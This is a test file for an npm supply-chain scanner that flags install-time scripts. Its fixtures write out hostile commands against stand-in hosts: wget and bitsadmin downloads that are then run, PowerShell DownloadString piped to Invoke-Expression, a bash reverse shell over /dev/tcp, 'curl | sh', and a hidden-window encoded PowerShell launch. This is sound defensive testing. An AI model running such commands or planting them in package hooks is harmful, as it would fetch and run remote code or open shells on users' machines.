import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { analyseScriptFile, batchLineAsCommand } from '../../src/npm/script-file.js'
import { scan } from '../../src/scan/scan.js'
import { judge, pkgJson } from './helpers.js'

const serious = (f: { severity: string }): boolean => f.severity === 'high' || f.severity === 'critical'

describe('script files a package runs at install time', () => {
  it('a shell script named by a lifecycle step that downloads a program and starts it in the background is high, at the line that runs it', () => {
    const findings = judge({
      files: {
        'package.json': pkgJson({ install: 'bash scripts/get.sh' }),
        'scripts/get.sh': '#!/bin/sh\nset -e\nwget -q -O /tmp/nonexistent-x/agent http://agent.example.invalid/a\n/tmp/nonexistent-x/agent --daemon &\n',
      },
    })
    const hit = findings.find((f) => f.path === 'scripts/get.sh')
    expect(hit?.severity).toBe('high')
    expect(hit?.line).toBe(4)
    expect(hit?.evidence).toContain('"install": bash scripts/get.sh')
  })

  it('a .cmd file started from install-time JavaScript that uses bitsadmin is high', () => {
    const findings = judge({
      files: {
        'package.json': pkgJson({ postinstall: 'node tools/post.js' }),
        'tools/post.js': "const cp = require('child_process')\nif (process.platform === 'win32') cp.execSync('cmd /c tools\\\\fetch.cmd')\n",
        'tools/fetch.cmd': '@ECHO OFF\r\nREM refresh\r\nIF NOT EXIST "%APPDATA%\\svc" (\r\n  bitsadmin /transfer j /download http://cdn.example.invalid/s.exe "%APPDATA%\\svc.exe"\r\n)\r\n',
      },
    })
    const hit = findings.find((f) => f.path === 'tools/fetch.cmd')
    expect(hit?.severity).toBe('high')
    expect(hit?.line).toBe(4)
    expect(hit?.evidence).toContain('tools/post.js:2')
  })

  it('a PowerShell script that evaluates a download is high, a reverse shell in a script critical', () => {
    const ps = judge({ files: { 'package.json': pkgJson({ preinstall: 'pwsh -NoProfile -File ./win/setup.ps1' }), 'win/setup.ps1': "$base = 'https://u.example.invalid'\n$s = (New-Object Net.WebClient).DownloadString(\"$base/p\")\nInvoke-Expression $s\n" } })
    expect(ps.find((f) => f.path === 'win/setup.ps1')?.severity).toBe('high')
    const rs = judge({ files: { 'package.json': pkgJson({ postinstall: 'sh ./hooks/post.sh' }), 'hooks/post.sh': 'H=127.0.0.1\nsh -i >& /dev/tcp/$H/9001 0>&1\n' } })
    const hit = rs.find((f) => f.path === 'hooks/post.sh')
    expect(hit?.severity).toBe('critical')
    expect(hit?.line).toBe(2)
  })

  it('a binary installer that checks the digest of what it fetched stays below high, and so does one that only makes it executable', () => {
    const checked = judge({
      files: {
        'package.json': pkgJson({ postinstall: 'sh install.sh' }),
        'install.sh': '#!/bin/sh\ncurl -fsSL -o bin/tool https://releases.example.invalid/tool-linux-x64\necho "$SUM  bin/tool" | sha256sum -c -\nchmod +x bin/tool\n./bin/tool --version\n',
      },
    })
    expect(checked.filter(serious)).toEqual([])
    expect(checked.find((f) => f.path === 'install.sh')?.severity).toBe('medium')
    const chmodOnly = judge({ files: { 'package.json': pkgJson({ postinstall: 'sh fetch.sh' }), 'fetch.sh': 'curl -fsSL -o vendor/tool https://releases.example.invalid/tool\nchmod 755 vendor/tool\n' } })
    expect(chmodOnly.filter(serious)).toEqual([])
  })

  it('a script nothing runs at install time is not judged as install-time code', () => {
    const findings = judge({ files: { 'package.json': pkgJson({ test: 'sh scripts/release.sh' }), 'scripts/release.sh': 'curl -fsSL https://get.example.invalid/i.sh | sh\n' } })
    expect(findings.filter((f) => f.path === 'scripts/release.sh')).toEqual([])
  })
})

describe('reading PowerShell scripts', () => {
  it('sees a hidden window or a policy bypass at its line, and nothing in a script that only copies files', () => {
    const facts = analyseScriptFile('s.ps1', "$d = Join-Path $env:TEMP 'x'\nStart-Process powershell -ArgumentList '-WindowStyle Hidden -File u.ps1'\n")
    expect(facts.signals.map((s) => [s.kind, s.line])).toEqual([['policy-bypass', 2]])
    expect(analyseScriptFile('copy.ps1', "Copy-Item -Path .\\bin\\* -Destination $env:APPDATA\\tool -Recurse\n").signals).toEqual([])
  })

  it('takes the flags from a line that starts PowerShell, starts a process or sets the policy, not from other cmdlets', () => {
    const kinds = (code: string) => analyseScriptFile('s.ps1', code).signals.map((s) => s.kind)
    expect(kinds('powershell -e SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA\n')).toEqual(['policy-bypass'])
    expect(kinds('Set-ExecutionPolicy -ExecutionPolicy Bypass -Scope Process\n')).toEqual(['policy-bypass'])
    expect(kinds('Start-Process -WindowStyle Hidden tool.exe\n')).toEqual(['policy-bypass'])
    // `-e` and `-w` abbreviate other parameters of other cmdlets
    expect(kinds('Get-ChildItem . | Select-String -e TODOFIXME1\n')).toEqual([])
    expect(kinds('Start-Process tool.exe -w Hiddenness\n')).toEqual([])
  })
})

describe('reading Windows batch files', () => {
  it('leaves what a guarded or bracketed line runs', () => {
    expect(batchLineAsCommand('@echo off')).toBe('echo off')
    expect(batchLineAsCommand('if not exist "a b.exe" (')).toBe('')
    expect(batchLineAsCommand('IF /I "%X%"=="yes" start /b x.exe')).toBe('start /b x.exe')
    expect(batchLineAsCommand('if errorlevel 1 if exist y.exe y.exe --go')).toBe('y.exe --go')
    expect(batchLineAsCommand(':: comment curl x | sh')).toBe('')
    expect(batchLineAsCommand(') else (')).toBe('')
  })

  it('sees a download on one line run on a later one', () => {
    const facts = analyseScriptFile('x.bat', 'set T=%TEMP%\\u.exe\ncurl -s -o %TEMP%\\u.exe https://h.example.invalid/u\nif exist %TEMP%\\u.exe (\n  %TEMP%\\u.exe /quiet\n)\n')
    expect(facts.signals.map((s) => [s.kind, s.line])).toEqual([['download-exec', 4]])
  })
})

describe('through scan, on a package directory', () => {
  const dir = mkdtempSync(join(tmpdir(), 'stagelight-script-file-'))
  const pkg = join(dir, 'pkg')
  afterAll(() => rmSync(dir, { recursive: true, force: true }))

  it('reports the script file the install step reaches', async () => {
    const files: Record<string, string> = {
      'package.json': pkgJson({ preinstall: 'node boot.js' }),
      'boot.js': "require('child_process').exec('/bin/bash ./lib/warm.sh')\n",
      'lib/warm.sh': 'curl -s http://m.example.invalid/x -o .cache-x && chmod +x .cache-x && ./.cache-x &\n',
      'index.js': 'module.exports = 1\n',
    }
    for (const [rel, text] of Object.entries(files)) {
      mkdirSync(dirname(join(pkg, rel)), { recursive: true })
      writeFileSync(join(pkg, rel), text)
    }
    const report = await scan({ target: pkg, cwd: dir, env: process.env, cacheDir: join(dir, '.cache') })
    const hit = report.findings.find((f) => f.path === 'lib/warm.sh' && f.ruleId.startsWith('npm/'))
    expect(hit?.severity).toBe('high')
    expect(report.verdict).toBe('fail')
  })
})
